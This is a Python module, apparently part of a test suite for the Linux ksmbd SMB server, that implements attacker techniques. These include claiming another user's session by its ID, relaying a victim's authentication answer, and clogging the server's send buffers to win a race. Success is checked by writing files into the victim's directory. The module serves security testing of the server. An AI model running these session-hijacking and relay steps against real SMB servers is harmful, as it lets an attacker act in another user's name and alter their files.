# SPDX-License-Identifier: GPL-2.0-only
"""What somebody can do who wants to act in the victim's name and has no key
of his: claim a session by its number, pass the victim's answers on, hold back
the server's, withhold last bytes. What the victim's directory holds in the
end tells whether it worked."""

import contextlib
import itertools
import time

from smb2 import wire
from smb2.connection import Closed

from .bulk import earn
from .server import PRIVATE, sysctl_set

BOOTY = b"written by somebody else"
# The first tree of a session
TREE_ID = 1
RECEIVE_BUFFER = 65536
# With it, an answer of READ_SIZE does not fit into what the kernel buffers
SMALL_SEND_BUFFER = "4096 16384 65536"
READ_SIZE = 1 << 18
READS = 3
ECHOES = 200
VOLLEYS = 5
# For ksmbd's workers to take up what was sent
PAUSE = 0.25
# For an answer, where it may well be that none comes
PATIENCE = 5
# What the server's side may take to do what it has been told
GRACE = 0.3

_serial = itertools.count()


def booty():
    """The path of a file in the victim's directory that is not there."""
    return PRIVATE / f"booty{next(_serial)}"


def unwatched(rig, **options):
    """A negotiated connection whose answers nobody checks, as long as no
    session is noted in it."""
    return rig.connect(strict=False, timeout=PATIENCE, **options)


def forget(connection):
    """Check no answer of the sessions on @connection from now on."""
    connection.sessions.clear()


def claim(rig, connection, session_id, key=None):
    """Requests in the name of the session with @session_id, signed with
    @key, if there is one."""
    session = rig.session_on(connection)
    session.id, session.tree_id = session_id, TREE_ID
    session.signing_key = key
    return session


def connect_tree(session):
    """A message that connects @session to the share."""
    request = session.request(wire.tree_connect("share"), tree_id=0)
    return _encode(session, [request])


def raid(session, path):
    """A message that makes the file @path in the victim's directory."""
    return _encode(session, session.chain(
        [wire.create(f"{PRIVATE.name}\\{path.name}"),
         wire.write(wire.ANY_FILE, 0, BOOTY), wire.close(wire.ANY_FILE)]))


def _encode(session, requests):
    key = session.signing_key
    return b"".join(session.sign(request.encode()) if key else
                    request.encode() for request in requests)


def shout(connection, *messages, wait=GRACE):
    """Send @messages, and take what comes until nothing does for @wait
    seconds. Returns the answers; the last is None if the connection was
    ended."""
    answers = []
    with _patience(connection, wait):
        try:
            connection.send(*messages)
            while True:
                answers += wire.split(connection.receive_message())
        except TimeoutError:
            return answers
        except (Closed, OSError):
            return [*answers, None]


@contextlib.contextmanager
def _patience(connection, seconds):
    old = connection.socket.gettimeout()
    connection.socket.settimeout(seconds)
    try:
        yield
    finally:
        connection.socket.settimeout(old)


def plunder(sessions, path):
    """Connect to the share as each of @sessions, which are on one connection,
    and make @path."""
    for message in (connect_tree, lambda session: raid(session, path)):
        shout(sessions[0].connection, *map(message, sessions))


def relayed(rig, connection, challenged, security_mode=wire.SIGNING_ENABLED):
    """The victim's answer to a challenge that the server gave @challenged, in
    one leg. Who passes it on does not learn the key, and says what he likes
    around it."""
    victim = rig.victim_on(connection, security_mode=security_mode)
    victim.take_challenge(challenged)
    return victim.final_leg()


@contextlib.contextmanager
def small_send_buffers():
    """What the server answers does not fit into its kernel's buffers during
    a `with`; else it would take many more READs, and more time."""
    old = sysctl_set("net/ipv4/tcp_wmem", SMALL_SEND_BUFFER)
    try:
        yield
    finally:
        sysctl_set("net/ipv4/tcp_wmem", old)


class Clog:
    """A session of our own whose answers get stuck, as nobody reads them, and
    those of its whole connection with them."""

    def __init__(self, rig, **options):
        self.rig = rig
        self.connection = unwatched(rig, receive_buffer=RECEIVE_BUFFER,
                                    **options)
        self.session = rig.session_on(self.connection).setup() \
            .connect_tree("share")
        path = rig.fresh_path()
        path.write_bytes(bytes(READ_SIZE))
        path.chmod(0o666)
        self.file = self.session.create(path.name)

    def log_victim_in(self, challenged, times=1, **options):
        """Pass on the victim's answer, between READs, and more than once if
        there is more than one number that he could get. ksmbd authenticates
        with the lock that answers are sent under: before the first READs are
        taken off the wire he is not in; afterwards his answer waits behind
        the others, unless it is quicker than who waits already. Against that
        help many who want the lock just then."""
        forget(self.connection)
        earn(self.session, 2 * READS * wire.charge_for(READ_SIZE) + ECHOES +
             times * (1 + VOLLEYS * 4))
        self._read()
        self.connection.send(*(
            relayed(self.rig, self.connection, challenged, **options).encode()
            for _ in range(times)))
        time.sleep(PAUSE)
        self._read()
        self.connection.send(*(
            self.connection.request(wire.echo(), credits=1).encode()
            for _ in range(ECHOES)))
        self._take(READS)

    def _take(self, reads):
        """Take the answers to @reads READs off the wire, and what comes
        between."""
        while reads:
            header = wire.Header.unpack(self.connection.receive_message())
            reads -= header.command == wire.READ

    def _read(self):
        for _ in range(READS):
            self.session.send(self.session.request(
                wire.read(self.file, 0, READ_SIZE)))
        time.sleep(PAUSE)

    def plunder(self, sessions, path):
        """Like the function, as any of @sessions, without waiting for
        answers; and more than once, as nothing tells when the victim is
        in."""
        for _ in range(VOLLEYS):
            for message in (connect_tree, lambda session: raid(session, path)):
                with contextlib.suppress(Closed, OSError):
                    self.connection.send(*map(message, sessions))
                time.sleep(PAUSE / 2)
            if path.exists():
                return
